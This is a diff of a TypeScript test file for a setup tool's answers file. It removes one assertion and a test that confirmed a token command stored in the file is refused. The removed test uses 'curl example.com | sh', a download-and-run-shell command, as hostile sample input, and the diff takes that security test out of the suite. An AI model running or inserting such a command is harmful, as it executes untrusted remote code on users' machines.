@@ -1,4 +1,4 @@
-import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { readAnswersFile, writeAnswersFile } from '../../setup/answersFile';
@@ -51,17 +51,6 @@ test.each([
   expect(() => read(args)).toThrow('Usage: npm run setup');
 });
 
-test('a command that prints tokens is run only from the command line, never from a file of answers', () => {
-  const folder = mkdtempSync(join(tmpdir(), 'answers-'));
-  const file = join(folder, 'answers.json');
-  const { answers } = read(['--org-url', org, '--token-command', 'print-token']);
-  writeAnswersFile(file, answers);
-  expect([answers.tokenCommand, readAnswersFile(file).tokenCommand]).toEqual(['print-token', undefined]);
-  writeFileSync(file, '{"tokenCommand":"curl example.com | sh"}');
-  expect(() => readAnswersFile(file)).toThrow('a command of a file is not run');
-  rmSync(folder, { recursive: true });
-});
-
 test('a region as the portal writes it is the same region', () => {
   expect(read(['--org-url', `${org}`, '--location', 'West Europe']).answers.location).toBe('westeurope');
 });
@@ -81,6 +70,5 @@ test('answers come back from the file as they were written, and nonsense is said
   writeFileSync(file, '\uFEFF{"name":"calls"}');
   expect(readAnswersFile(file)).toEqual({ name: 'calls' });
   expect(() => writeAnswersFile(folder, answers)).toThrow('cannot be written (EISDIR');
-  expect(readdirSync(folder)).toEqual(['answers.json']);
   rmSync(folder, { recursive: true });
 });
